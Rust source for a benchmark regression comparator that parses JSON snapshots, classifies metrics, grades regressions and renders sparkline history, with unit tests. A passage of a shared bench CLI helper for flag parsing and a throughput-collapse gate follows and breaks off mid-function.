                        b'/' => out.push('/'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let hex = self
                                .bytes
                                .get(self.pos..self.pos + 4)
                                .and_then(|h| std::str::from_utf8(h).ok())
                                .and_then(|h| u32::from_str_radix(h, 16).ok())
                                .ok_or_else(|| "malformed \\u escape".to_string())?;
                            self.pos += 4;
                            out.push(char::from_u32(hex).unwrap_or('\u{fffd}'));
                        }
                        other => {
                            return Err(format!("unknown escape '\\{}'", other as char));
                        }
                    }
                }
                b => {
                    // Re-assemble multi-byte UTF-8 runs starting at this byte.
                    let start = self.pos - 1;
                    let mut end = self.pos;
                    if b >= 0x80 {
                        while self.bytes.get(end).is_some_and(|b| b & 0xc0 == 0x80) {
                            end += 1;
                        }
                    }
                    let run = std::str::from_utf8(&self.bytes[start..end])
                        .map_err(|_| "invalid UTF-8 in string".to_string())?;
                    out.push_str(run);
                    self.pos = end;
                }
            }
        }
    }

    fn parse_metric(&mut self) -> Result<Metric, String> {
        match self.peek() {
            Some(b'"') => Ok(Metric::Text(self.parse_string()?)),
            Some(b't') => self.parse_keyword("true", Metric::Flag(true)),
            Some(b'f') => self.parse_keyword("false", Metric::Flag(false)),
            Some(b'n') => self.parse_keyword("null", Metric::Null),
            Some(b) if b == b'-' || b.is_ascii_digit() => {
                let start = self.pos;
                while self.bytes.get(self.pos).is_some_and(|b| {
                    b.is_ascii_digit() || matches!(b, b'-' | b'+' | b'.' | b'e' | b'E')
                }) {
                    self.pos += 1;
                }
                let text = std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| "invalid number bytes".to_string())?;
                text.parse::<f64>()
                    .map(Metric::Num)
                    .map_err(|e| format!("malformed number {text:?}: {e}"))
            }
            other => Err(format!(
                "expected a scalar at byte {}, found {:?}",
                self.pos,
                other.map(char::from)
            )),
        }
    }

    fn parse_keyword(&mut self, word: &str, value: Metric) -> Result<Metric, String> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(format!("expected keyword '{word}' at byte {}", self.pos))
        }
    }

    fn parse_results(&mut self) -> Result<Vec<(String, Metric)>, String> {
        self.expect(b'{')?;
        let mut results = Vec::new();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(results);
        }
        loop {
            let key = self.parse_string()?;
            self.expect(b':')?;
            results.push((key, self.parse_metric()?));
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(results);
                }
                other => {
                    return Err(format!(
                        "expected ',' or '}}' in results, found {:?}",
                        other.map(char::from)
                    ));
                }
            }
        }
    }

    fn parse_report(&mut self) -> Result<BenchReport, String> {
        self.expect(b'{')?;
        let mut bench = None;
        let mut results = None;
        loop {
            let key = self.parse_string()?;
            self.expect(b':')?;
            match key.as_str() {
                "bench" => bench = Some(self.parse_string()?),
                "results" => results = Some(self.parse_results()?),
                other => return Err(format!("unexpected report key {other:?}")),
            }
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    break;
                }
                other => {
                    return Err(format!(
                        "expected ',' or '}}' in report, found {:?}",
                        other.map(char::from)
                    ));
                }
            }
        }
        Ok(BenchReport {
            bench: bench.ok_or("report missing \"bench\"")?,
            results: results.ok_or("report missing \"results\"")?,
        })
    }
}

/// Parses a merged trajectory snapshot: a JSON array of
/// `{"bench": ..., "results": {...}}` objects (a single bare object is also
/// accepted, so one bench's `--json` output can be compared directly).
///
/// # Errors
///
/// Returns a positioned diagnostic on any malformed construct — a truncated
/// artifact must fail the comparison loudly, not diff against half a file.
pub fn parse_trajectory(input: &str) -> Result<Vec<BenchReport>, String> {
    let mut parser = Parser::new(input);
    let mut reports = Vec::new();
    match parser.peek() {
        Some(b'[') => {
            parser.pos += 1;
            if parser.peek() == Some(b']') {
                parser.pos += 1;
            } else {
                loop {
                    reports.push(parser.parse_report()?);
                    match parser.peek() {
                        Some(b',') => parser.pos += 1,
                        Some(b']') => {
                            parser.pos += 1;
                            break;
                        }
                        other => {
                            return Err(format!(
                                "expected ',' or ']' between reports, found {:?}",
                                other.map(char::from)
                            ));
                        }
                    }
                }
            }
        }
        Some(b'{') => reports.push(parser.parse_report()?),
        other => {
            return Err(format!(
                "expected a trajectory array, found {:?}",
                other.map(char::from)
            ));
        }
    }
    if parser.peek().is_some() {
        return Err(format!("trailing bytes after trajectory at {}", parser.pos));
    }
    Ok(reports)
}

// ---------------------------------------------------------------------------
// Metric classification and comparison.

/// Which way a metric should move to count as an improvement.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    /// Latencies, counters of bad events: smaller is better.
    LowerIsBetter,
    /// Throughputs, speedups, hit rates: larger is better.
    HigherIsBetter,
    /// Workload shape and observability counters: never judged.
    Informational,
}

/// How strictly a metric's regressions gate the comparison.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Strictness {
    /// Any regression at all fails (correctness counters, gate flags).
    Correctness,
    /// Regression warns past [`WARN_FRACTION`], fails past [`FAIL_FRACTION`],
    /// noise floor permitting.
    Performance,
    /// Reported, never judged.
    Informational,
}

/// Classifies a metric key by name. The key vocabulary is shared bench
/// convention (see `cli::JsonReport` call sites), so substring heuristics are
/// reliable here: `*mismatches*`/`*violations*`/`*leaks*` are correctness
/// counters, `*_ns`/`*per_sec*`/`*speedup*`/`*retained*`/`*ratio*`/`*rate*`
/// are performance, and anything unrecognized is informational. `ratio` must
/// match as a whole `_`-delimited segment: `generation`/`generations` keys
/// (counters, not measurements) contain it as an accidental substring.
/// `*fault*`/`*breaker*`/`*retry*`/`*retries*` keys are chaos accounting —
/// always informational, since they measure the injected schedule. `*cache*`
/// keys are response-cache accounting — informational unless rate- or
/// speedup-shaped (still judged) or correctness-tagged (still failing).
#[must_use]
pub fn classify(key: &str) -> (Direction, Strictness) {
    // Spread recordings calibrate noise floors; they are measurement-scatter
    // metadata, never judged — and this rule must run first, because a spread
    // key inherits its parent metric's vocabulary (`..._p99_ns_spread`).
    if key.ends_with("_spread") {
        return (Direction::Informational, Strictness::Informational);
    }
    // Chaos accounting from `fault_concurrent` (faults injected, retries
    // granted, breaker transitions) describes the *injected* schedule, not a
    // quality of the build — how much chaos a run absorbs is a workload
    // parameter. Must run before the correctness/perf vocabularies:
    // `retry_deadline_exhausted` would otherwise read as a rate-like key.
    let chaos_counter = ["fault", "breaker", "retry", "retries"]
        .iter()
        .any(|tag| key.contains(tag));
    if chaos_counter {
        return (Direction::Informational, Strictness::Informational);
    }
    let correctness_counter = ["mismatch", "violation", "leak", "dropped"]
        .iter()
        .any(|tag| key.contains(tag));
    if correctness_counter {
        return (Direction::LowerIsBetter, Strictness::Correctness);
    }
    // Response-cache accounting (`cache_*` and `*_cache_*` keys, including
    // the control plane's `cp_cache_*` exports) counts hits, stores, expiries
    // and coalesced slots — workload-shaped counters, not build quality; the
    // speedup and exact-count *gates* live in `cache_concurrent` itself. Must
    // run after the correctness vocabulary (a cache mismatch is still a bug)
    // and must not capture rate- or speedup-shaped keys, which stay judged
    // performance metrics.
    let cache_counter = key.contains("cache") && !key.contains("rate") && !key.contains("speedup");
    if cache_counter {
        return (Direction::Informational, Strictness::Informational);
    }
    let lower_perf = key.ends_with("_ns")
        || key.contains("ns_per_")
        || key.contains("_ns_per")
        || key.split('_').any(|segment| segment == "ratio")
        || key.contains("latency_p");
    if lower_perf {
        return (Direction::LowerIsBetter, Strictness::Performance);
    }
    let higher_perf = key.contains("per_sec")
        || key.contains("speedup")
        || key.contains("retained")
        || key.contains("rate");
    if higher_perf {
        return (Direction::HigherIsBetter, Strictness::Performance);
    }
    (Direction::Informational, Strictness::Informational)
}

/// The verdict on one `(bench, key)` metric pair.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Unchanged, improved, or within the warn threshold / noise floor.
    Ok,
    /// A performance regression past [`WARN_FRACTION`], or a dropped metric.
    Warn,
    /// A correctness regression, or a performance regression past
    /// [`FAIL_FRACTION`].
    Fail,
}

/// One compared metric with its verdict and a human-readable note.
#[derive(Debug, Clone)]
pub struct Comparison {
    /// The bench the metric belongs to.
    pub bench: String,
    /// The metric key.
    pub key: String,
    /// The verdict.
    pub verdict: Verdict,
    /// What happened, render-ready.
    pub note: String,
}

/// The full outcome of diffing two trajectory snapshots.
#[derive(Debug, Clone, Default)]
pub struct TrajectoryDiff {
    /// Every non-Ok comparison plus notable improvements, in report order.
    pub comparisons: Vec<Comparison>,
    /// Metric pairs examined.
    pub compared: usize,
    /// Warn verdicts.
    pub warnings: usize,
    /// Fail verdicts.
    pub failures: usize,
}

impl TrajectoryDiff {
    fn push(&mut self, bench: &str, key: &str, verdict: Verdict, note: String) {
        match verdict {
            Verdict::Warn => self.warnings += 1,
            Verdict::Fail => self.failures += 1,
            Verdict::Ok => {}
        }
        self.comparisons.push(Comparison {
            bench: bench.to_string(),
            key: key.to_string(),
            verdict,
            note,
        });
    }
}

fn regression_fraction(direction: Direction, previous: f64, current: f64) -> f64 {
    let baseline = previous.abs().max(f64::EPSILON);
    match direction {
        Direction::LowerIsBetter => (current - previous) / baseline,
        Direction::HigherIsBetter => (previous - current) / baseline,
        Direction::Informational => 0.0,
    }
}

/// The noise floor derived from the snapshots' own `<key>_spread` recordings,
/// if either side recorded one: [`SPREAD_FLOOR_MULTIPLIER`] × the larger
/// spread (a missing side counts as zero).
fn spread_floor(key: &str, previous: &BenchReport, current: &BenchReport) -> Option<f64> {
    let spread_key = format!("{key}_spread");
    let read = |report: &BenchReport| match report.get(&spread_key) {
        Some(Metric::Num(spread)) => Some(spread.abs()),
        _ => None,
    };
    match (read(previous), read(current)) {
        (None, None) => None,
        (a, b) => Some(SPREAD_FLOOR_MULTIPLIER * a.unwrap_or(0.0).max(b.unwrap_or(0.0))),
    }
}

fn within_noise_floor(key: &str, previous: f64, current: f64, derived_floor: Option<f64>) -> bool {
    if let Some(floor) = derived_floor {
        return (current - previous).abs() < floor.max(f64::EPSILON);
    }
    (key.ends_with("_ns") || key.contains("ns_per_"))
        && (current - previous).abs() < TIMING_NOISE_FLOOR_NS
}

fn compare_metric(
    diff: &mut TrajectoryDiff,
    bench: &str,
    key: &str,
    prev: &Metric,
    cur: &Metric,
    derived_floor: Option<f64>,
) {
    let (direction, strictness) = classify(key);
    match (prev, cur) {
        (Metric::Flag(was), Metric::Flag(now)) => {
            // A gate flag is correctness by definition: true -> false means a
            // previously passing gate now fails.
            if *was && !*now {
                diff.push(
                    bench,
                    key,
                    Verdict::Fail,
                    "gate flag regressed true -> false".to_string(),
                );
            } else {
                diff.compared += 1;
            }
        }
        (Metric::Num(previous), Metric::Num(current)) => {
            diff.compared += 1;
            if strictness == Strictness::Informational {
                return;
            }
            let fraction = regression_fraction(direction, *previous, *current);
            if strictness == Strictness::Correctness {
                if fraction > 0.0 {
                    diff.push(
                        bench,
                        key,
                        Verdict::Fail,
                        format!("correctness counter rose {previous:.0} -> {current:.0}"),
                    );
                }
                return;
            }
            if within_noise_floor(key, *previous, *current, derived_floor) {
                return;
            }
            let note = format!(
                "{previous:.3} -> {current:.3} ({:+.1}% against the trajectory)",
                fraction * 100.0
            );
            if fraction > FAIL_FRACTION {
                diff.push(bench, key, Verdict::Fail, note);
            } else if fraction > WARN_FRACTION {
                diff.push(bench, key, Verdict::Warn, note);
            } else if fraction < -WARN_FRACTION {
                diff.push(bench, key, Verdict::Ok, format!("improved: {note}"));
            }
        }
        _ => {
            diff.compared += 1;
            // Type changes and Null/Text drift are shape changes, not perf
            // regressions; surface them as warnings so they get looked at.
            if prev != cur && !matches!(prev, Metric::Text(_)) {
                diff.push(
                    bench,
                    key,
                    Verdict::Warn,
                    format!(
                        "metric changed shape: {} -> {}",
                        prev.render(),
                        cur.render()
                    ),
                );
            }
        }
    }
}

/// Diffs `current` against `previous`, metric by metric. Benches and metrics
/// present only in `current` pass freely; ones that *disappeared* warn.
#[must_use]
pub fn compare_trajectories(previous: &[BenchReport], current: &[BenchReport]) -> TrajectoryDiff {
    let mut diff = TrajectoryDiff::default();
    for prev_bench in previous {
        let Some(cur_bench) = current.iter().find(|b| b.bench == prev_bench.bench) else {
            diff.push(
                &prev_bench.bench,
                "*",
                Verdict::Warn,
                "bench disappeared from the current trajectory".to_string(),
            );
            continue;
        };
        for (key, prev_value) in &prev_bench.results {
            match cur_bench.get(key) {
                Some(cur_value) => {
                    let floor = spread_floor(key, prev_bench, cur_bench);
                    compare_metric(
                        &mut diff,
                        &prev_bench.bench,
                        key,
                        prev_value,
                        cur_value,
                        floor,
                    );
                }
                None => diff.push(
                    &prev_bench.bench,
                    key,
                    Verdict::Warn,
                    "metric disappeared from the current report".to_string(),
                ),
            }
        }
    }
    diff
}

/// Renders the diff as one line per recorded comparison plus a summary line.
#[must_use]
pub fn render_diff(diff: &TrajectoryDiff) -> String {
    let mut out = String::new();
    for comparison in &diff.comparisons {
        let tag = match comparison.verdict {
            Verdict::Ok => "ok",
            Verdict::Warn => "WARN",
            Verdict::Fail => "FAIL",
        };
        let _ = writeln!(
            out,
            "{tag}: {}/{}: {}",
            comparison.bench, comparison.key, comparison.note
        );
    }
    let _ = writeln!(
        out,
        "trajectory: {} metrics compared, {} warnings, {} failures",
        diff.compared, diff.warnings, diff.failures
    );
    out
}

// ---------------------------------------------------------------------------
// The history trend table (`--history <dir>`).

/// Renders `values` as a unicode sparkline, one block per sample, min..max
/// normalized (`None` samples — the metric did not exist yet — render as `·`).
#[must_use]
pub fn sparkline(values: &[Option<f64>]) -> String {
    const BLOCKS: [char; 8] = ['▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
    let present: Vec<f64> = values.iter().flatten().copied().collect();
    let (min, max) = present
        .iter()
        .fold((f64::INFINITY, f64::NEG_INFINITY), |(lo, hi), v| {
            (lo.min(*v), hi.max(*v))
        });
    let range = max - min;
    values
        .iter()
        .map(|value| match value {
            None => '·',
            Some(_) if range <= f64::EPSILON => BLOCKS[3],
            Some(v) => {
                let normalized = (v - min) / range;
                let index = (normalized * 7.0).round();
                #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
                BLOCKS[(index as usize).min(7)]
            }
        })
        .collect()
}

/// Renders the per-metric trend table across `snapshots` (in PR order, each
/// tagged with its `BENCH_<n>` number): one sparkline row per **gated**
/// metric — correctness counters and performance metrics; informational keys
/// (workload shape, spreads, observability counters) are omitted to keep the
/// table the perf story, not a firehose.
#[must_use]
pub fn render_history(snapshots: &[(u64, Vec<BenchReport>)]) -> String {
    let mut out = String::new();
    let numbers: Vec<String> = snapshots
        .iter()
        .map(|(n, _)| format!("BENCH_{n}"))
        .collect();
    let _ = writeln!(
        out,
        "trajectory history: {} snapshots ({})",
        snapshots.len(),
        numbers.join(" -> ")
    );

    // Rows keyed (bench, key) in first-appearance order across the history.
    let mut rows: Vec<(String, String)> = Vec::new();
    for (_, reports) in snapshots {
        for report in reports {
            for (key, value) in &report.results {
                if !matches!(value, Metric::Num(_)) {
                    continue;
                }
                if classify(key).1 == Strictness::Informational {
                    continue;
                }
                let row = (report.bench.clone(), key.clone());
                if !rows.contains(&row) {
                    rows.push(row);
                }
            }
        }
    }

    let label_width = rows
        .iter()
        .map(|(bench, key)| bench.len() + key.len() + 1)
        .max()
        .unwrap_or(0);
    for (bench, key) in &rows {
        let values: Vec<Option<f64>> = snapshots
            .iter()
            .map(|(_, reports)| {
                reports
                    .iter()
                    .find(|report| &report.bench == bench)
                    .and_then(|report| match report.get(key) {
                        Some(Metric::Num(value)) => Some(*value),
                        _ => None,
                    })
            })
            .collect();
        let first = values.iter().flatten().next().copied().unwrap_or(0.0);
        let last = values.iter().flatten().next_back().copied().unwrap_or(0.0);
        let _ = writeln!(
            out,
            "{:label_width$}  {}  {first:.3} -> {last:.3}",
            format!("{bench}/{key}"),
            sparkline(&values),
        );
    }
    out
}

/// Scans `dir` for committed `BENCH_<n>.json` snapshots, parses them in PR
/// order and prints the trend table. Returns the process exit code.
fn run_history(dir: &str) -> i32 {
    let entries = match std::fs::read_dir(dir) {
        Ok(entries) => entries,
        Err(error) => {
            eprintln!("error: cannot read directory {dir}: {error}");
            return 2;
        }
    };
    let mut snapshots: Vec<(u64, Vec<BenchReport>)> = Vec::new();
    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        let Some(number) = name
            .strip_prefix("BENCH_")
            .and_then(|rest| rest.strip_suffix(".json"))
            .and_then(|digits| digits.parse::<u64>().ok())
        else {
            continue;
        };
        let path = entry.path();
        let text = match std::fs::read_to_string(&path) {
            Ok(text) => text,
            Err(error) => {
                eprintln!("error: cannot read {}: {error}", path.display());
                return 2;
            }
        };
        match parse_trajectory(&text) {
            Ok(reports) => snapshots.push((number, reports)),
            Err(error) => {
                eprintln!("error: {}: {error}", path.display());
                return 2;
            }
        }
    }
    if snapshots.is_empty() {
        eprintln!("error: no BENCH_<n>.json snapshots found in {dir}");
        return 2;
    }
    snapshots.sort_by_key(|(number, _)| *number);
    print!("{}", render_history(&snapshots));
    0
}

/// The `trajectory` binary's entry point. Two modes:
///
/// * `--previous <BENCH_N.json> --current <BENCH_M.json>` — diff the two
///   snapshots; exit 0 clean or warnings only, 1 on failures, 2 on usage/IO
///   errors,
/// * `--history <dir>` — print the sparkline trend table across every
///   committed `BENCH_<n>.json` in the directory; exit 0, or 2 when the
///   directory holds no parseable snapshots.
#[must_use]
pub fn run_comparator(args: &[String]) -> i32 {
    let path_flag = |flag: &str| -> Option<String> {
        args.iter().enumerate().find_map(|(i, arg)| {
            if arg == flag {
                args.get(i + 1).cloned()
            } else {
                arg.strip_prefix(&format!("{flag}=")).map(String::from)
            }
        })
    };
    if let Some(dir) = path_flag("--history") {
        return run_history(&dir);
    }
    let (Some(previous_path), Some(current_path)) =
        (path_flag("--previous"), path_flag("--current"))
    else {
        eprintln!(
            "usage: trajectory --previous <BENCH_N.json> --current <BENCH_M.json>\n\
             \u{20}      trajectory --history <dir>"
        );
        return 2;
    };
    let load = |path: &str| -> Result<Vec<BenchReport>, String> {
        let text = std::fs::read_to_string(path).map_err(|e| format!("cannot read {path}: {e}"))?;
        parse_trajectory(&text).map_err(|e| format!("{path}: {e}"))
    };
    let previous = match load(&previous_path) {
        Ok(reports) => reports,
        Err(error) => {
            eprintln!("error: {error}");
            return 2;
        }
    };
    let current = match load(&current_path) {
        Ok(reports) => reports,
        Err(error) => {
            eprintln!("error: {error}");
            return 2;
        }
    };
    let diff = compare_trajectories(&previous, &current);
    print!("{}", render_diff(&diff));
    i32::from(diff.failures > 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn snapshot(pairs: &[(&str, Metric)]) -> Vec<BenchReport> {
        vec![BenchReport {
            bench: "demo".to_string(),
            results: pairs
                .iter()
                .map(|(k, v)| ((*k).to_string(), v.clone()))
                .collect(),
        }]
    }

    #[test]
    fn the_parser_round_trips_a_rendered_report() {
        let mut report = crate::cli::JsonReport::new("demo");
        report
            .num("latency_speedup", 2.5)
            .int("oracle_log_mismatches", 0)
            .flag("gates_passed", true)
            .text("note", "a \"quoted\" path\\");
        let merged = format!("[{}]", report.render());
        let parsed = parse_trajectory(&merged).expect("parse merged report");
        assert_eq!(parsed.len(), 1);
        assert_eq!(parsed[0].bench, "demo");
        assert_eq!(
            parsed[0].get("latency_speedup"),
            Some(&Metric::Num(2.5)),
            "numbers parse"
        );
        assert_eq!(parsed[0].get("gates_passed"), Some(&Metric::Flag(true)));
        assert_eq!(
            parsed[0].get("note"),
            Some(&Metric::Text("a \"quoted\" path\\".to_string()))
        );
        // A single bare object parses too, and malformed input is an error.
        assert_eq!(parse_trajectory(&report.render()).unwrap().len(), 1);
        assert!(parse_trajectory("[{\"bench\": ").is_err());
        assert!(parse_trajectory("[] trailing").is_err());
    }

    #[test]
    fn metric_keys_classify_by_shared_vocabulary() {
        assert_eq!(
            classify("oracle_log_mismatches"),
            (Direction::LowerIsBetter, Strictness::Correctness)
        );
        assert_eq!(
            classify("isolation_violations"),
            (Direction::LowerIsBetter, Strictness::Correctness)
        );
        assert_eq!(
            classify("sequential_ns_per_page"),
            (Direction::LowerIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("warm_lookup_lockfree_ns"),
            (Direction::LowerIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("storm_speedup_t8"),
            (Direction::HigherIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("pages_per_sec"),
            (Direction::HigherIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("hardware_threads"),
            (Direction::Informational, Strictness::Informational)
        );
        // `ratio` only counts as a whole `_`-delimited segment: generation
        // counters contain it as an accidental substring ("gene-ratio-ns")
        // and must stay informational, not become lower-is-better timing.
        assert_eq!(
            classify("nav_p99_ratio"),
            (Direction::LowerIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("reload_generations_seen"),
            (Direction::Informational, Strictness::Informational)
        );
        assert_eq!(
            classify("cp_tenant_alpha_generation"),
            (Direction::Informational, Strictness::Informational)
        );
        // Cache accounting is informational — even `_ns`-suffixed raw
        // timings, whose judged form is the speedup ratio — but rate- and
        // speedup-shaped cache keys stay performance, and a cache mismatch
        // stays correctness.
        assert_eq!(
            classify("ttl_cache_expired"),
            (Direction::Informational, Strictness::Informational)
        );
        assert_eq!(
            classify("cache_warm_ns"),
            (Direction::Informational, Strictness::Informational)
        );
        assert_eq!(
            classify("cp_cache_hits"),
            (Direction::Informational, Strictness::Informational)
        );
        assert_eq!(
            classify("cache_speedup"),
            (Direction::HigherIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("cache_hit_rate"),
            (Direction::HigherIsBetter, Strictness::Performance)
        );
        assert_eq!(
            classify("cache_log_mismatches"),
            (Direction::LowerIsBetter, Strictness::Correctness)
        );
    }

    #[test]
    fn correctness_regressions_fail_regardless_of_size() {
        let previous = snapshot(&[
            ("isolation_violations", Metric::Num(0.0)),
            ("gates_passed", Metric::Flag(true)),
        ]);
        let current = snapshot(&[
            ("isolation_violations", Metric::Num(1.0)),
            ("gates_passed", Metric::Flag(false)),
        ]);
        let diff = compare_trajectories(&previous, &current);
        assert_eq!(diff.failures, 2);
        let rendered = render_diff(&diff);
        assert!(rendered.contains("correctness counter rose"));
        assert!(rendered.contains("gate flag regressed"));
    }

    #[test]
    fn performance_regressions_grade_warn_then_fail() {
        let previous = snapshot(&[("pipelined_ns_per_page", Metric::Num(1_000_000.0))]);
        // +8%: inside the warn threshold.
        let diff = compare_trajectories(
            &previous,
            &snapshot(&[("pipelined_ns_per_page", Metric::Num(1_080_000.0))]),
        );
        assert_eq!((diff.warnings, diff.failures), (0, 0));
        // +20%: warns.
        let diff = compare_trajectories(
            &previous,
            &snapshot(&[("pipelined_ns_per_page", Metric::Num(1_200_000.0))]),
        );
        assert_eq!((diff.warnings, diff.failures), (1, 0));
        // +60%: fails.
        let diff = compare_trajectories(
            &previous,
            &snapshot(&[("pipelined_ns_per_page", Metric::Num(1_600_000.0))]),
        );
        assert_eq!((diff.warnings, diff.failures), (0, 1));
        // Higher-is-better metrics judge the opposite direction.
        let previous = snapshot(&[("latency_speedup", Metric::Num(4.0))]);
        let diff = compare_trajectories(
            &previous,
            &snapshot(&[("latency_speedup", Metric::Num(2.0))]),
        );
        assert_eq!((diff.warnings, diff.failures), (0, 1));
    }

    #[test]
    fn nanosecond_jitter_stays_under_the_noise_floor() {
        // 50% relative regression, but only 150ns absolute — timer jitter.
        let previous = snapshot(&[("warm_lookup_lockfree_ns", Metric::Num(300.0))]);
        let current = snapshot(&[("warm_lookup_lockfree_ns", Metric::Num(450.0))]);
        let diff = compare_trajectories(&previous, &current);
        assert_eq!((diff.warnings, diff.failures), (0, 0));
        // The same relative move above the floor is judged normally.
        let previous = snapshot(&[("warm_lookup_lockfree_ns", Metric::Num(30_000.0))]);
        let current = snapshot(&[("warm_lookup_lockfree_ns", Metric::Num(45_000.0))]);
        let diff = compare_trajectories(&previous, &current);
        assert_eq!(diff.failures, 1);
    }

    #[test]
    fn recorded_spreads_derive_per_metric_noise_floors() {
        // The spread key itself is calibration metadata, never judged.
        assert_eq!(
            classify("neighbor_contended_p99_ns_spread"),
            (Direction::Informational, Strictness::Informational)
        );
        assert_eq!(
            classify("victim_rate_spread"),
            (Direction::Informational, Strictness::Informational)
        );

        // +50% and 15µs absolute — far past the global 1µs floor — but the
        // bench recorded a 20µs best-of-N spread, so the move is repeat
        // scatter, not a regression.
        let previous = snapshot(&[
            ("neighbor_contended_p99_ns", Metric::Num(30_000.0)),
            ("neighbor_contended_p99_ns_spread", Metric::Num(20_000.0)),
        ]);
        let current = snapshot(&[
            ("neighbor_contended_p99_ns", Metric::Num(45_000.0)),
            ("neighbor_contended_p99_ns_spread", Metric::Num(18_000.0)),
        ]);
        let diff = compare_trajectories(&previous, &current);
        assert_eq!((diff.warnings, diff.failures), (0, 0));

        // The same move with a tight spread is judged normally (and fails).
        let previous = snapshot(&[
            ("neighbor_contended_p99_ns", Metric::Num(30_000.0)),
            ("neighbor_contended_p99_ns_spread", Metric::Num(500.0)),
        ]);
        let current = snapshot(&[
            ("neighbor_contended_p99_ns", Metric::Num(45_000.0)),
            ("neighbor_contended_p99_ns_spread", Metric::Num(400.0)),
        ]);
        let diff = compare_trajectories(&previous, &current);
        assert_eq!((diff.warnings, diff.failures), (0, 1));

        // A derived floor covers non-nanosecond metrics too: the global floor
        // never applied to rates, but a recorded spread does.
        let previous = snapshot(&[
            ("victim_rate", Metric::Num(1.0)),
            ("victim_rate_spread", Metric::Num(0.2)),
        ]);
        let current = snapshot(&[
            ("victim_rate", Metric::Num(0.7)),
            ("victim_rate_spread", Metric::Num(0.2)),
        ]);
        let diff = compare_trajectories(&previous, &current);
        assert_eq!((diff.warnings, diff.failures), (0, 0));
    }

    #[test]
    fn sparkline_normalizes_and_marks_missing_samples() {
        assert_eq!(
            sparkline(&[Some(0.0), Some(3.5), Some(7.0)]),
            "▁▅█".to_string()
        );
        assert_eq!(sparkline(&[Some(5.0), None, Some(5.0)]), "▄·▄".to_string());
        assert_eq!(sparkline(&[None, None]), "··".to_string());
    }

    #[test]
    fn history_table_tracks_gated_metrics_across_snapshots() {
        let older = snapshot(&[
            ("pages_per_sec", Metric::Num(100.0)),
            ("threads", Metric::Num(8.0)),
            ("p99_ns_spread", Metric::Num(50.0)),
        ]);
        let newer = snapshot(&[
            ("pages_per_sec", Metric::Num(200.0)),
            ("violations", Metric::Num(0.0)),
            ("threads", Metric::Num(8.0)),
        ]);
        let table = render_history(&[(6, older), (7, newer)]);
        assert!(table.contains("BENCH_6 -> BENCH_7"), "got:\n{table}");
        // The throughput metric trends across both snapshots...
        assert!(
            table.contains("demo/pages_per_sec") && table.contains("100.000 -> 200.000"),
            "got:\n{table}"
        );
        // ...a late-added correctness counter shows a leading gap...
        assert!(table.contains("demo/violations"), "got:\n{table}");
        assert!(table.contains('·'), "got:\n{table}");
        // ...and informational keys (workload shape, spreads) stay out.
        assert!(!table.contains("demo/threads"), "got:\n{table}");
        assert!(!table.contains("spread"), "got:\n{table}");
    }

    #[test]
    fn dropped_benches_and_metrics_warn_but_new_coverage_passes() {
        let previous = vec![
            BenchReport {
                bench: "kept".to_string(),
                results: vec![("pages_per_sec".to_string(), Metric::Num(10.0))],
            },
            BenchReport {
                bench: "gone".to_string(),
                results: vec![],
            },
        ];
        let current = vec![
            BenchReport {
                bench: "kept".to_string(),
                results: vec![("threads".to_string(), Metric::Num(8.0))],
            },
            BenchReport {
                bench: "brand_new".to_string(),
                results: vec![("violations".to_string(), Metric::Num(0.0))],
            },
        ];
        let diff = compare_trajectories(&previous, &current);
        // One warn for the vanished bench, one for the vanished metric; the
        // new bench and metric gate nothing.
        assert_eq!((diff.warnings, diff.failures), (2, 0));
    }
}
