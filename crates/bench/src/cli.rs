//! Shared scaffolding for the `harness = false` bench binaries: flag parsing and
//! the multi-thread no-collapse gate, kept in one place so `policy_concurrent` and
//! `jar_concurrent` cannot drift apart.

/// Parses `--flag value` or `--flag=value`; exits with a diagnostic on a malformed
/// value rather than silently benchmarking a different configuration.
#[must_use]
pub fn parse_flag(args: &[String], flag: &str, default: usize) -> usize {
    for (i, arg) in args.iter().enumerate() {
        let value = if arg == flag {
            args.get(i + 1).map(String::as_str)
        } else if let Some(rest) = arg.strip_prefix(flag) {
            rest.strip_prefix('=')
        } else {
            continue;
        };
        return match value.map(str::parse) {
            Some(Ok(parsed)) => parsed,
            _ => {
                eprintln!("error: {flag} requires a numeric value (got {value:?})");
                std::process::exit(2);
            }
        };
    }
    default
}

/// Applies the multi-thread no-collapse gate to `(threads, aggregate-per-second)`
/// samples, the first of which is the single-thread baseline. Prints `ok` when a
/// thread count beats single-thread, `WARN` when it lands inside the tolerance
/// (on a starved single-core runner a multi-thread aggregate can only tie), and
/// `FAIL` when the aggregate collapsed below `fraction` of single-thread — the
/// global-lock convoy signature. Returns `true` when any sample failed.
///
/// `unit` names what is being counted (e.g. `"decision"`, `"header"`).
#[must_use]
pub fn no_collapse_gate(unit: &str, samples: &[(usize, f64)], fraction: f64) -> bool {
    let single = samples[0].1;
    let mut failed = false;
    for &(threads, aggregate) in &samples[1..] {
        if aggregate < single * fraction {
            eprintln!(
                "FAIL: aggregate {unit} throughput at {threads} threads ({aggregate:.0}/s) \
                 collapsed below {:.0}% of single-thread ({single:.0}/s) — global-lock convoy",
                fraction * 100.0
            );
            failed = true;
        } else if aggregate >= single {
            println!(
                "ok: {threads} threads sustain {:.2}x single-thread aggregate {unit} throughput",
                aggregate / single
            );
        } else {
            println!(
